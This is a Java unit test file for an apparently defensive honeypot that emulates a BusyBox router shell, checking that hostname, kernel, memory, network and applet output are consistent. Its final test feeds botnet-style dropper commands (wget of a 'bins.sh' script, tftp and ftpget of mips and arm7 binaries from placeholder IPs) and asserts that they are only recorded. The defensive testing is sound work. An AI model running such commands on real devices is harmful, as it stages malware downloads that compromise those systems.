package io.honeybee.shell;

import static org.assertj.core.api.Assertions.assertThat;

import io.honeybee.pot.PotFixture;
import io.honeybee.world.World;
import org.junit.jupiter.api.Test;

/** The router agrees with itself and with the server behind it. */
class RouterTest {
  private final World server = PotFixture.WORLD;
  private final World router = server.router();
  private final ShellFixture shell = ShellFixture.router();

  @Test
  void hostNameAndKernelAreTheSameEverywhere() throws Exception {
    String host = router.hostName();
    assertThat(shell.run("hostname; uname -n; cat /proc/sys/kernel/hostname"))
        .isEqualTo((host + "\n").repeat(3));
    assertThat(shell.run("cat /etc/hosts")).contains(router.network().address() + " " + host);
    assertThat(shell.run("uname -a"))
        .isEqualTo(
            "Linux %s %s %s %s GNU/Linux\n"
                .formatted(host, router.kernelRelease(), router.kernelVersion(), router.machine()));
    assertThat(shell.run("cat /proc/version")).contains(router.kernelVersion());
  }

  @Test
  void processorsMemoryAndDiskAgree() throws Exception {
    assertThat(shell.run("grep -c ^processor /proc/cpuinfo").strip())
        .isEqualTo(String.valueOf(router.cpu().cores()));
    String total = String.valueOf(router.memory().totalKilobytes());
    assertThat(
            shell.run(
                "free | awk '/Mem/ {print $2}'; grep MemTotal /proc/meminfo | awk '{print $2}'"))
        .isEqualTo((total + "\n").repeat(2));
    assertThat(shell.run("df")).contains("/dev/root").contains("100% /\n");
  }

  @Test
  void serverIsItsNeighbourAndKnowsItAsItsGateway() throws Exception {
    assertThat(shell.run("ifconfig br0"))
        .contains("inet addr:" + server.network().gateway() + " ")
        .containsIgnoringCase("HWaddr " + router.network().mac());
    assertThat(shell.run("cat /proc/net/arp"))
        .contains(server.network().address())
        .contains(server.network().mac());
    assertThat(new ShellFixture().run("cat /proc/net/arp"))
        .contains(server.network().gateway())
        .contains(router.network().mac());
  }

  @Test
  void everyAppletThatIsListedAnswers() throws Exception {
    for (String applet : shell.run("busybox --list").split("\n", -1)) {
      if (!applet.isEmpty()) {
        assertThat(shell.run("busybox " + applet + " </dev/null"))
            .as(applet)
            .doesNotContain("applet not found");
        shell.run("which " + applet);
        assertThat(shell.status).as(applet).isZero();
      }
    }
  }

  @Test
  void whatAServerHasIsNotThere() throws Exception {
    for (String name : new String[] {"apt-get", "systemctl", "curl", "python3", "sudo", "lscpu"}) {
      assertThat(shell.run(name)).isEqualTo("sh: " + name + ": not found\n");
      assertThat(shell.status).isEqualTo(127);
    }
    assertThat(shell.run("ls /usr/bin/apt /etc/debian_version /boot")).doesNotContain("\n/boot:");
  }

  @Test
  void nothingIsFetchedAndEveryAddressIsReported() throws Exception {
    shell.run("wget http://198.51.100.1/bins.sh -O /tmp/x; tftp -g -r mips -l m 198.51.100.2");
    shell.run("/bin/busybox ftpget -u a -p b 198.51.100.3 arm7 bins/arm7");
    assertThat(shell.downloads)
        .containsExactly(
            "http://198.51.100.1/bins.sh /tmp/x",
            "tftp://198.51.100.2/mips m",
            "ftp://198.51.100.3/bins/arm7 arm7");
  }
}
